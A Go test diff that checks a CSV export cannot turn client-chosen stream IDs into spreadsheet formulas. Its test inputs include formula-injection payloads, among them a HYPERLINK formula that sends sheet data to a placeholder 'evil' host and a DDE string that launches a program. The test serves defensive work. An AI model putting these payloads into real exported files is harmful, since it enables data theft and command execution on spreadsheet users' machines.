@@ -2,8 +2,10 @@ package render
 
 import (
 	"bytes"
+	"encoding/csv"
 	"math"
 	"path/filepath"
+	"strings"
 	"testing"
 
 	"github.com/santhosh-tekuri/jsonschema/v6"
@@ -65,5 +67,33 @@ func TestJSONOfOddStoredClaimsMatchesSchema(t *testing.T) {
 		if err := sch.Validate(doc); err != nil {
 			t.Errorf("%s: %v", name, err)
 		}
+	}
+}
+
+// TestCSVStreamIDCannotBeAFormula: stream ids come from clients (anyone with an app's public
+// ingest token can name a stream), and the page offers every stream's minute curve as a CSV
+// download for spreadsheets, which run a cell starting with =, +, -, @ (or a tab or carriage
+// return before one) as a formula: =HYPERLINK(…) sends the sheet's data away on a click.
+func TestCSVStreamIDCannotBeAFormula(t *testing.T) {
+	for _, id := range []string{`=HYPERLINK("http://evil/?"&B2,"x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"} {
+		var out bytes.Buffer
+		if err := CSV(&out, fixture(id, "network", "")); err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(&out).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, row := range rows[1:] {
+			if strings.ContainsAny(row[0][:1], "=+-@\t\r") {
+				t.Errorf("stream_id cell %q starts a formula", row[0])
+				break
+			}
+		}
+	}
+	var out bytes.Buffer
+	CSV(&out, fixture("x-space-2024-08-12", "network", ""))
+	if !strings.Contains(out.String(), "\nx-space-2024-08-12,") {
+		t.Errorf("an ordinary id is changed:\n%s", out.String())
 	}
 }
